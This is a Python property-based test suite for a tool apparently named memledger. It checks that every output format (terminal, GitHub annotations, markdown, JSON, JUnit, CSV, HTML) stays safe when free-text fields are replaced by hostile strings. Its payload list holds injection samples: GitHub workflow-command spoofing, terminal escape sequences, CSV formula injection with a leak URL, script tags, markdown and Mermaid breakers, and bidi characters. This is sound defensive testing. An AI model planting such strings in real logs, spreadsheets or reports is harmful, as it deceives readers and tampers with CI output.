"""Class 1 of the security review as a property: hostile strings through every renderer.

Every free-text string of a ledger, a diff, a check report (budget messages too) and a parsed
log is replaced by a hostile string (HTML, `</details>`, images, links, mentions, refs, code
fences, workflow commands, terminal escapes, C0/C1 controls, CSV formulas, Mermaid breakers).
Each format's output must keep its invariant:

- every format: no raw C0 (but tab, newline), DEL, C1, line separator or invisible character
  (Unicode's default-ignorable code points and category Cf, U+200B aside: memledger's own mark).
- text (terminal): no line starts `::`
  (after blanks) and no `##[` anywhere (GitHub's runner reads both in a job log).
- github: the first lines are memledger's own annotations (as many as with benign strings);
  after them no line starts `::`; no control, no `##[`.
- markdown: the token structure (markdown-it, GFM tables) equals the benign rendering's, so
  no hostile text opened a link, image, HTML block, code fence or table cell; no text outside
  code holds a live mention, issue reference or autolink; Mermaid lines keep their shape;
  no control, no line starting `::`, no `##[`.
- json: parses to exactly the data the renderer produced; no raw C1/DEL; no `##[`.
- junit: a strict XML 1.0 parser accepts it; no raw C1; no `##[`.
- csv: as many records and fields as with benign strings; no cell a spreadsheet runs as a
  formula; no control; no line starts `::`; no `##[`.
- html: the same elements and attribute names as with benign strings (no hostile text made a
  tag or attribute), only memledger's own tags, no script, link or event handler; no control,
  no line starts `::`, no `##[`.
- jsonl (`ledger` over several logs, `--format json`): each line parses to the data the
  renderer produced; no raw C1/DEL; no `##[`.

Registries covered: ledger (text, markdown incl. --explain, json, csv, html), diff (text,
markdown with Mermaid, json, csv, html; both with the two ledgers' timeline), check (text,
github, markdown = the step summary, json, junit, html), parse
(text, json), diagnose (text, markdown, json), whatif (text, markdown, json), fleet (text, csv,
jsonl).
"""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
import xml.etree.ElementTree as ET
from collections.abc import Callable
from datetime import date
from functools import cache
from html.parser import HTMLParser
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from memledger.api import diagnose, whatif
from memledger.app.load import load_parsed
from memledger.checking.budget import parse_budget
from memledger.checking.evaluate import check_budget
from memledger.compare.compute import diff_ledgers
from memledger.diagnosis.model import Diagnosis
from memledger.model.events import ParsedLog
from memledger.model.fleet import FleetEntry
from memledger.model.ledger import Ledger
from memledger.record import to_json, validate
from memledger.render import FORMATS as LEDGER_FORMATS
from memledger.render import LedgerView
from memledger.render.check import FORMATS as CHECK_FORMATS
from memledger.render.diagnose import FORMATS as DIAGNOSE_FORMATS
from memledger.render.diff_formats import FORMATS as DIFF_FORMATS
from memledger.render.diff_formats import DiffView
from memledger.render.escape import csv_cell, mermaid_label
from memledger.render.fleet import FLEET_FORMATS, line_of
from memledger.render.parse import FORMATS as PARSE_FORMATS
from memledger.render.parse import ParseView
from memledger.render.sizing import WHATIF_FORMATS
from memledger.render.tables import markdown_cell
from memledger.render.terminal import PLAIN
from memledger.sizing.whatif import WhatIf
from tests.conftest import SAMPLES, ledger_for

# Default_Ignorable_Code_Point, Unicode 15.1 DerivedCoreProperties.txt
DEFAULT_IGNORABLE = frozenset(
    code
    for low, high in [
        (0x00AD, 0x00AD),
        (0x034F, 0x034F),
        (0x061C, 0x061C),
        (0x115F, 0x1160),
        (0x17B4, 0x17B5),
        (0x180B, 0x180F),
        (0x200B, 0x200F),
        (0x202A, 0x202E),
        (0x2060, 0x206F),
        (0x3164, 0x3164),
        (0xFE00, 0xFE0F),
        (0xFEFF, 0xFEFF),
        (0xFFA0, 0xFFA0),
        (0xFFF0, 0xFFF8),
        (0x1BCA0, 0x1BCA3),
        (0x1D173, 0x1D17A),
        (0xE0000, 0xE0FFF),
    ]  # fmt: skip
    for code in range(low, high + 1)
)
# every default-ignorable code point below U+E0000 (tags and selectors beyond it: a few, or a
# markdown report past its length limit is cut and no longer has the benign one's shape), and
# format characters that are not default-ignorable
INVISIBLE = "".join(
    chr(c)
    for c in sorted(
        {c for c in DEFAULT_IGNORABLE if c < 0xE0000}
        | {0x0600, 0x06DD, 0x110BD, 0xFFF9, 0xE0001, 0xE0041, 0xE007F, 0xE0100, 0xE0FFF}
    )
)


PAYLOADS = [
    '</details><img src="https://attacker.example/p.png"> @octocat #1 `x` | a | '
    "[c](https://evil.example) ![i](x)",
    "x\n::warning file=a::INJECTED\n::add-mask::secret\n::set-output name=passed::true",
    "  ::error::pwned",
    "##[add-mask]secret ##[set-output name=x;]y",
    "\x1b]0;owned-title\x07\x1bc\x1b#8\x1b(0lqqk\x1b(B\x1b7\x1b8\x08\x08HIDDEN",
    "\u009b2J\u009b31mRED\u0085\u202eevil\u2066",
    "bad\x00\x01\x02\x0b\x0c\x1f\x7f end ]]> &amp; <!-- \r\n",
    '=HYPERLINK("https://evil.example/?leak="&A1;"click")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "x\n```\n@octocat <sub>\n```.log",
    '"; pie title x\n%%{init: {"theme":"dark"}}%%',
    "<script>alert(1)</script> www.evil.example https://evil.example/a",
    "*emph* _u_ ~~s~~ **b** > quote\n# heading\n- list\n| a | b |\n|---|---|",
    "\\ trailing backslash \\",
    # review 3, finding 5: bidi marks, fillers, tags, every default-ignorable and format char
    "abc \u200f\u061c\u200e FAIL x \ufeff\u00ad\u3164 \u200fPASS (exit 0)\u200e",
    INVISIBLE,
]
_TEXT_CHARS = st.characters(
    exclude_categories=["Cs"],  # lone surrogates cannot be printed; input refuses them
    min_codepoint=0,
    max_codepoint=0x2FFF,
)
HOSTILE = st.one_of(
    st.sampled_from(PAYLOADS),
    st.text(_TEXT_CHARS, min_size=1, max_size=30),
    st.builds(lambda a, b: a + b, st.sampled_from(PAYLOADS), st.text(_TEXT_CHARS, max_size=10)),
)

# Strings that are identifiers or enums, not free text: replacing them would not validate or
# would change which rows exist (a structure difference that is not an escaping failure).
_STRUCTURAL_KEYS = frozenset(
    {
        "id",
        "kind",
        "group",
        "interval",
        "from_checkpoint",
        "to_checkpoint",
        "checkpoint",
        "outcome",
        "status",
        "level",
        "item",
        "bound",
        "unit",
        "role",
        "phase",
        "severity",
        "direction",
        "rank",
        "variant",
        "category",
        "change",
        "schema_version",
        "source_kind",
        "interval_parts",
        "sizes",
        "values",
        "version",
        "key",
    }
)


Draw = Callable[[str], str]


def _replace_strings(value: Any, draw: Draw) -> Any:
    if isinstance(value, dict):
        return {
            k: v if k in _STRUCTURAL_KEYS else _replace_strings(v, draw) for k, v in value.items()
        }
    if isinstance(value, list):
        return [_replace_strings(item, draw) for item in value]
    if isinstance(value, str) and value:
        return draw(value)
    return value


def _base_ledgers() -> tuple[Ledger, Ledger]:
    return ledger_for(SAMPLES / "dp2.log"), ledger_for(SAMPLES / "dp16.log")


@cache
def _base_parsed() -> ParsedLog:
    return load_parsed(SAMPLES / "dp2.log")


@cache
def _base_answers() -> tuple[Diagnosis, WhatIf]:
    """The diagnosis and a what-if of the dp2 sample (their free text replaced per test)."""
    return diagnose(SAMPLES / "dp2.log"), whatif(SAMPLES / "dp2.log", mem_fraction_static=0.85)


def _hostile_model(model: Diagnosis | WhatIf, draw: Draw) -> Any:
    return validate(type(model), _replace_strings(json.loads(to_json(model)), draw))


def _other_renders(head: Ledger, draw: Draw, only: str | None = None) -> dict[str, str]:
    """diagnose, whatif and fleet (several logs) outputs; `only`: that format alone."""
    diagnosis, answer = (_hostile_model(model, draw) for model in _base_answers())
    fleet = [
        FleetEntry(path=draw("fleet path a"), line=line_of(draw("fleet path a"), head)),
        FleetEntry(path=draw("fleet path b"), error=draw("fleet error")),
    ]
    out: dict[str, str] = {}
    registries: list[tuple[str, Any, Any, Any]] = [
        ("diagnose", DIAGNOSE_FORMATS, PLAIN, diagnosis),
        ("whatif", WHATIF_FORMATS, PLAIN, answer),
        ("fleet", FLEET_FORMATS, PLAIN, fleet),
    ]
    for prefix, formats, options, model in registries:
        for name in formats.names:
            if only is None:
                out[f"{prefix}.{name}"] = formats.renderer(name, options)(model)
            elif name == only:
                out[f"{prefix}.{name}"] = formats.entries[formats.pick(name)].make(options)(model)
    return out


def _hostile_ledger(ledger: Ledger, draw: Draw) -> Ledger:
    document = _replace_strings(json.loads(to_json(ledger)), draw)
    return validate(Ledger, document)


def _toml_string(text: str) -> str:
    # characters beyond the BMP as themselves: TOML has no surrogate-pair escapes
    escaped = json.dumps(text, ensure_ascii=False)
    return escaped.replace("\x7f", "\\u007f")


def _budget_text(message: str) -> str:
    entries = [
        ('item = "kv_tokens_per_instance"', "min = 99_000_000_000"),
        ('item = "cuda_graph"', 'max = "1 GiB"\nlevel = "warn"'),
        ('item = "runtime_headroom"', 'min = "1 GiB"'),
        ('item = "weights"', "max_increase_pct = 1"),
        ('item = "fixed_overhead"', 'max = "1 GiB"\nwaived_until = 2999-01-01\nreason = "r"'),
        ('item = "draft_slot_map"', 'max = "1 GiB"'),
    ]
    body = "".join(
        f"[[budget]]\n{item}\n{limit}\nmessage = {_toml_string(message)}\n\n"
        for item, limit in entries
    )
    return "version = 1\n\n" + body


class Sample:
    """A one-to-one replacement of the models' strings: hostile ones, or benign ones.

    Equal strings stay equal and different ones different (on both sides of a diff), so the
    hostile and the benign rendering hold the same rows and tables."""

    def __init__(self, strings: list[str]) -> None:
        self.strings = strings
        self.numbers: dict[str, int] = {}

    def drawer(self, benign: bool) -> Draw:
        def draw(original: str) -> str:
            number = self.numbers.setdefault(original, len(self.numbers))
            if benign:
                return f"benign{number}"
            return f"{self.strings[number % len(self.strings)]} n{number}"

        return draw


def _raw_json(sample: Sample) -> dict[str, str]:
    """The JSON renderers' own output, before the JSON pass: the data it must keep."""
    draw = sample.drawer(benign=False)
    base, head = (_hostile_ledger(ledger, draw) for ledger in _base_ledgers())
    parsed = validate(ParsedLog, _replace_strings(json.loads(to_json(_base_parsed())), draw))
    budget = parse_budget(_budget_text(draw("message")), path=draw("budget path"))
    report = check_budget(budget, [(draw("log path"), head)], today=date(2026, 1, 1))
    diff = diff_ledgers(base, head, base_label=draw("base label"), head_label=draw("head label"))
    pairs: list[tuple[str, Any, Any, Any]] = [
        ("ledger.json", LEDGER_FORMATS, LedgerView(), head),
        ("diff.json", DIFF_FORMATS, DiffView(), diff),
        ("check.json", CHECK_FORMATS, None, report),
        ("parse.json", PARSE_FORMATS, ParseView(all_ranks=True, coverage=True), parsed),
    ]
    return {
        **{
            name: formats.entries[formats.pick("json")].make(options)(model)
            for name, formats, options, model in pairs
        },
        **_other_renders(head, draw, only="json"),
    }


@cache
def _benign_renders() -> dict[str, str]:
    return _renders(Sample(["benign"]), benign=True)


def _renders(sample: Sample, benign: bool) -> dict[str, str]:
    draw = sample.drawer(benign)
    base, head = _base_ledgers()
    base, head = _hostile_ledger(base, draw), _hostile_ledger(head, draw)
    parsed = validate(ParsedLog, _replace_strings(json.loads(to_json(_base_parsed())), draw))
    budget = parse_budget(_budget_text(draw("message")), path=draw("budget path"))
    report = check_budget(budget, [(draw("log path"), head)], today=date(2026, 1, 1))
    diff = diff_ledgers(base, head, base_label=draw("base label"), head_label=draw("head label"))
    out: dict[str, str] = {}
    for name in LEDGER_FORMATS.names:
        out[f"ledger.{name}"] = LEDGER_FORMATS.renderer(name, LedgerView())(head)
    out["ledger.explain.markdown"] = LEDGER_FORMATS.renderer("markdown", LedgerView("kv_pool"))(
        head
    )
    for name in DIFF_FORMATS.names:
        # with both ledgers: the pictures' timeline (step labels, tooltips) is drawn too
        out[f"diff.{name}"] = DIFF_FORMATS.renderer(name, DiffView(sides=(base, head)))(diff)
    for name in CHECK_FORMATS.names:
        out[f"check.{name}"] = CHECK_FORMATS.renderer(name, None)(report)
    for name in PARSE_FORMATS.names:
        view = ParseView(all_ranks=True, coverage=True)
        out[f"parse.{name}"] = PARSE_FORMATS.renderer(name, view)(parsed)
    return {**out, **_other_renders(head, draw)}


# ------------------------------------------------------------------ invariants per destination


def _invisible(char: str) -> bool:
    """Unicode's Default_Ignorable_Code_Point or category Cf (review 3, finding 5), computed here
    apart from memledger's table; U+200B is memledger's own inert mark."""
    return char != "\u200b" and (
        unicodedata.category(char) == "Cf" or ord(char) in DEFAULT_IGNORABLE
    )


class _Invisible:
    """`search` as a regexp's: the first control or invisible character of a text, or None
    (one U+FE0F right after a symbol is part of an emoji: memledger's own `⚠️`)."""

    def search(self, text: str) -> str | None:
        for index, char in enumerate(text):
            emoji = char == "\ufe0f" and index and unicodedata.category(text[index - 1]) == "So"
            if (_RAW_CONTROL.match(char) or _invisible(char)) and not emoji:
                return char
        return None


_RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029]")
_CONTROL = _Invisible()
_WORKFLOW_LINE = re.compile(r"^\s*::", re.MULTILINE)
_ANNOTATION = re.compile(r"^::(error|warning|notice) file=[^:\n]*::[^\n]*$")


def _ci_log_safe(text: str) -> None:
    assert "##[" not in text
    assert not _CONTROL.search(text), repr(_CONTROL.search(text))


def check_terminal(text: str) -> None:
    _ci_log_safe(text)
    assert not _WORKFLOW_LINE.search(text)


def check_github(text: str, benign: str) -> None:
    _ci_log_safe(text)
    own = [line for line in benign.splitlines() if line.startswith("::")]
    lines = text.splitlines()
    assert all(_ANNOTATION.match(line) for line in lines[: len(own)])
    assert not _WORKFLOW_LINE.search("\n".join(lines[len(own) :]))


def _md() -> MarkdownIt:
    return MarkdownIt("commonmark").enable("table").enable("strikethrough")


def _shape(tokens: list[Token]) -> list[Any]:
    shape: list[Any] = []
    for token in tokens:
        if token.type == "inline":
            children = [c.type for c in token.children or [] if c.type not in ("text", "softbreak")]
            shape.append(("inline", children))
        elif token.type == "fence":
            shape.append(("fence", token.info))  # its content may hold more lines: inert
        else:
            shape.append(token.type)
    return shape


_LIVE_REFERENCE = re.compile(r"@[\w-]|#\d|https?://|www\.", re.IGNORECASE)
_MERMAID_LINE = re.compile(
    # memledger's own chart config: a palette of its colour constants, sizes as numbers
    r'^(%%\{init: \{"themeVariables": \{"xyChart": \{"plotColorPalette": "#[0-9a-f]{6}'
    r'(, #[0-9a-f]{6})*"\}\}, "xyChart": \{"width": \d+, "height": \d+, '
    r'"xAxis": \{"labelFontSize": \d+\}\}\}\}%%'
    r"|xychart-beta( horizontal)?"
    r'|    title "[^"`\n]*"'
    r'|    x-axis \[("[^"`\n]*"(, )?)*\]'
    r'|    y-axis "[^"`\n]*" -?\d+ --> \d+'
    r"|    (line|bar) \[(-?[0-9.]+(, )?)*\])$"
)


def check_markdown(text: str, benign: str) -> None:
    check_terminal(text)
    tokens, benign_tokens = _md().parse(text), _md().parse(benign)
    assert _shape(tokens) == _shape(benign_tokens)
    for token in tokens:
        if token.type == "fence" and token.info == "mermaid":
            assert all(_MERMAID_LINE.match(line) for line in token.content.splitlines())
        for child in token.children or []:
            if child.type == "text":
                assert not _LIVE_REFERENCE.search(child.content), child.content


def check_json(text: str, raw: str) -> None:
    _ci_log_safe(text)
    assert json.loads(text) == json.loads(raw)


def check_jsonl(text: str, raw: str) -> None:
    _ci_log_safe(text)
    # split on newlines only: str.splitlines would also cut at U+0085 and U+2028 in strings
    assert [json.loads(line) for line in text.split("\n") if line] == [
        json.loads(line) for line in raw.split("\n") if line
    ]


def check_junit(text: str) -> None:
    check_terminal(text)
    ET.fromstring(text.encode("utf-8"))  # expat: a strict XML 1.0 parser


def check_markup(text: str, kind: str) -> None:
    """HTML or SVG: no raw control or invisible character (render.escape.visible_controls), no
    `##[`; SVG is well-formed XML."""
    _ci_log_safe(text)
    if kind == "svg":
        ET.fromstring(text.encode("utf-8"))


_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?%?")


def check_csv(text: str, benign: str) -> None:
    check_terminal(text)
    records = list(csv.reader(io.StringIO(text)))
    assert [len(r) for r in records] == [len(r) for r in csv.reader(io.StringIO(benign))]
    for cell in (cell for record in records for cell in record):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or _NUMBER.fullmatch(cell)


_HTML_TAGS = frozenset(
    "html head meta title style body h1 h2 h3 p ul li b table thead tbody tr th td "
    "svg line text polyline circle rect".split()
)


class _HtmlShape(HTMLParser):
    """Start tags with their attribute names, in order (the document's structure)."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.shape: list[tuple[str, tuple[str, ...]]] = []
        self.values: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.shape.append((tag, tuple(name for name, _ in attrs)))
        self.values += [value or "" for _, value in attrs]


def _html_shape(text: str) -> _HtmlShape:
    parser = _HtmlShape()
    parser.feed(text)
    parser.close()
    return parser


def check_html(text: str, benign: str) -> None:
    """The report's elements and attributes are the benign rendering's (no hostile text made
    a tag or an attribute), all of them memledger's own (no script, no link, no event handler),
    and the text is CI-log safe like every other format."""
    check_terminal(text)
    hostile, expected = _html_shape(text), _html_shape(benign)
    assert hostile.shape == expected.shape
    assert {tag for tag, _ in hostile.shape} <= _HTML_TAGS
    names = {name for _, attrs in hostile.shape for name in attrs}
    assert not {n for n in names if n.startswith("on") or n in ("href", "src", "style")}
    assert not any("javascript:" in value.lower() for value in hostile.values)


def _destination(name: str) -> str:
    return "jsonl" if name == "fleet.json" else name.rsplit(".", 1)[-1]


@settings(
    max_examples=8,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
@given(st.lists(HOSTILE, min_size=1, max_size=6))
def test_F01_F02_F13_F14_F19_F20_hostile_strings_keep_every_format_invariant(
    strings: list[str],
) -> None:
    _check_every_format(strings)


def test_review3_F5_invisible_characters_in_every_format() -> None:
    """Every default-ignorable and format character, in every format (a new one included)."""
    _check_every_format([PAYLOADS[-2], INVISIBLE])


def _check_every_format(strings: list[str]) -> None:
    sample = Sample(strings)
    hostile, benign = _renders(sample, benign=False), _benign_renders()
    raw_json = _raw_json(sample)
    assert hostile.keys() == benign.keys()
    for name, text in hostile.items():
        kind = _destination(name)
        if kind == "text":
            check_terminal(text)
        elif kind == "github":
            check_github(text, benign[name])
        elif kind == "markdown":
            check_markdown(text, benign[name])
        elif kind == "json":
            check_json(text, raw_json[name])
        elif kind == "jsonl":
            check_jsonl(text, raw_json[name])
        elif kind == "junit":
            check_junit(text)
        elif kind == "csv":
            check_csv(text, benign[name])
        elif kind == "html":  # pictures: markup a browser renders
            check_markup(text, kind)
            check_html(text, benign[name])
        elif kind == "svg":
            check_markup(text, kind)
        else:
            pytest.fail(f"no invariant for format {name}")


def test_every_registered_format_has_an_invariant() -> None:
    """A new format cannot skip the property test above (it fails on an unknown kind)."""
    names = {
        *LEDGER_FORMATS.names,
        *DIFF_FORMATS.names,
        *CHECK_FORMATS.names,
        *PARSE_FORMATS.names,
        *DIAGNOSE_FORMATS.names,
        *WHATIF_FORMATS.names,
        *FLEET_FORMATS.names,
    }
    assert names <= {"text", "github", "markdown", "json", "junit", "csv", "html", "svg"}


# ------------------------------------------------------------------ the review's reproductions


def test_F01_markdown_cell_makes_the_review_payload_inert() -> None:
    cell = markdown_cell(PAYLOADS[0])
    rendered = _md().render(cell)
    assert "<img" not in rendered and "<a " not in rendered and "</details>" not in rendered
    assert "@\u200boctocat" in cell and "#\u200b1" in cell


def test_F19_csv_formula_cells_are_prefixed_and_numbers_kept() -> None:
    assert csv_cell('=HYPERLINK("x")') == '\'=HYPERLINK("x")'
    assert csv_cell("@SUM(1)") == "'@SUM(1)"
    assert csv_cell("-1.25") == "-1.25" and csv_cell("+3") == "+3"
    assert csv_cell("-2+3") == "'-2+3"


def test_F20_mermaid_labels_cannot_close_the_block() -> None:
    label = mermaid_label('x\n```\n@octocat <sub>\n```.log"')
    assert "\n" not in label and "`" not in label and '"' not in label and "<" not in label
    assert mermaid_label("base 004-ascend-qwen3-480b-d…: 60.77 GiB") == (
        "base 004-ascend-qwen3-480b-d…: 60.77 GiB"
    )  # a cut label keeps its ellipsis (it was `_`)
